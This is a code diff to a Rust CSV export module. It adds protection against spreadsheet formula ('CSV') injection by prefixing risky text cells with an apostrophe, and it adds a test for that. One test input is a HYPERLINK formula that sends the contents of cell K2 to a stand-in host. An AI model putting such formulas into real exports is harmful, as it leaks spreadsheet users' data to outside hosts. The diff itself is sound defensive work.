@@ -25,8 +25,9 @@
 //! so the CSV stays one table any reader parses.
 //!
 //! The export only reads (one connection, read-only), so it is safe while the
-//! bot runs. Text is exported exactly as written: a spreadsheet may read an
-//! answer that starts with `=` as a formula.
+//! bot runs. JSON and Markdown keep text exactly as written. CSV is made safe
+//! to open in a spreadsheet: a text cell that starts with `=`, `+`, `-`, `@`,
+//! TAB or CR (what spreadsheets read as a formula) gets a leading `'`.
 //!
 //! The records themselves are assembled in [`crate::summary::export`]; this
 //! module reads the store and encodes them.
@@ -127,7 +128,8 @@ pub async fn render(store: &Store, request: &Request, now: DateTime<Utc>) -> Res
     if request.format == Format::Csv { to_csv(&records) } else { Ok(serde_json::to_string_pretty(&records)? + "\n") }
 }
 
-/// RFC 4180: a header row, fields with commas, quotes or line breaks quoted.
+/// RFC 4180: a header row, fields with commas, quotes or line breaks quoted,
+/// text cells defused ([`spreadsheet_safe`]).
 fn to_csv(records: &[Record]) -> Result<String, ExportError> {
     let mut w = csv::WriterBuilder::new().has_headers(true).from_writer(Vec::new());
     if records.is_empty() {
@@ -135,10 +137,37 @@ fn to_csv(records: &[Record]) -> Result<String, ExportError> {
         w.write_record(HEADER)?;
     }
     for r in records {
-        w.serialize(r)?;
+        w.serialize(defused(r.clone()))?;
     }
     let bytes = w.into_inner().map_err(|e| ExportError::Csv(e.into_error().into()))?;
     Ok(String::from_utf8(bytes).expect("CSV of UTF-8 strings is UTF-8"))
+}
+
+/// Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts
+/// with one of these as a formula: OWASP's "CSV injection".
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// `text` as a spreadsheet shows it rather than runs it: a leading `'` when it
+/// starts like a formula.
+pub fn spreadsheet_safe(text: String) -> String {
+    if text.starts_with(FORMULA_STARTS) { format!("'{text}") } else { text }
+}
+
+/// Every text cell of a record made spreadsheet-safe.
+fn defused(r: Record) -> Record {
+    let safe = |t: Option<String>| t.map(spreadsheet_safe);
+    Record {
+        cohort: spreadsheet_safe(r.cohort),
+        track: spreadsheet_safe(r.track),
+        prompt_id: safe(r.prompt_id),
+        question: safe(r.question),
+        answer: safe(r.answer),
+        what_changed: safe(r.what_changed),
+        evidence: safe(r.evidence),
+        who_benefited: safe(r.who_benefited),
+        link: safe(r.link),
+        ..r
+    }
 }
 
 /// Write the export to a new file readable by its owner only; an existing
@@ -192,5 +221,22 @@ mod tests {
         let csv = to_csv(&[r]).unwrap();
         assert_eq!(csv.lines().next().unwrap(), HEADER.join(","));
         assert_eq!(to_csv(&[]).unwrap().trim_end(), HEADER.join(","));
+    }
+
+    #[test]
+    fn text_that_starts_like_a_formula_is_quoted_with_an_apostrophe() {
+        for (text, safe) in [
+            ("=HYPERLINK(\"https://example.invalid/?q=\"&K2,\"details\")", "'=HYPERLINK"),
+            ("-35% p95 latency", "'-35% p95 latency"),
+            ("+1 for the plan", "'+1"),
+            ("@here look", "'@here"),
+            ("\tindented", "'\tindented"),
+            ("\rcarriage", "'\rcarriage"),
+        ] {
+            assert!(spreadsheet_safe(text.to_string()).starts_with(safe), "{text:?}");
+        }
+        for plain in ["shipped it", "p95 -35%", " =not at the start", ""] {
+            assert_eq!(spreadsheet_safe(plain.to_string()), plain);
+        }
     }
 }
